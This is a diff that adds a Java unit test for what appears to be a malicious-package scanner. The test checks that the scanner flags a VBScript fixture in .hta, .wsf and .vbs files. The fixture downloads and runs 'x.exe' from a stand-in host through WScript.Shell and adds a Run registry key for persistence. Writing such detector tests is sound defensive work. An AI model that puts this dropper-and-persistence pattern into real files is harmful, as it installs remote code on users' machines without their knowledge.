@@ -223,6 +223,32 @@ class CodeReaderTest {
   }
 
   @Test
+  void readsScriptsOfWindows() {
+    String page =
+        """
+        <html><script language="VBScript">
+        ' sh.Run "curl https://no.example"
+        site = "https://c.example" & "/a"
+        Set sh = CreateObject("WScript.Shell")
+        sh.Run "curl -o x.exe " & site & Chr(32) & "&& x.exe", 0
+        http.Open "GET", site, False
+        sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "y"
+        document.title = "Run this"
+        </script></html>
+        """;
+
+    for (String name : List.of("p/start.hta", "p/start.wsf", "p/start.vbs")) {
+      assertThat(told(read("p-1.tar.gz", Map.of(name, page))))
+          .contains(
+              "RECEIVES https://c.example/a CALL " + name + ":5",
+              "RECEIVES https://c.example/a CALL " + name + ":6")
+          .anyMatch(line -> line.startsWith("PERSISTS") && line.endsWith(name + ":7"))
+          .noneMatch(line -> line.contains("no.example"));
+    }
+    assertThat(told(read("p-1.tar.gz", Map.of("p/doc.hta", "<p>Run the tests.</p>\n")))).isEmpty();
+  }
+
+  @Test
   void isTheSameTwiceAndNeverFails() {
     Mutator mutator =
         new Mutator(
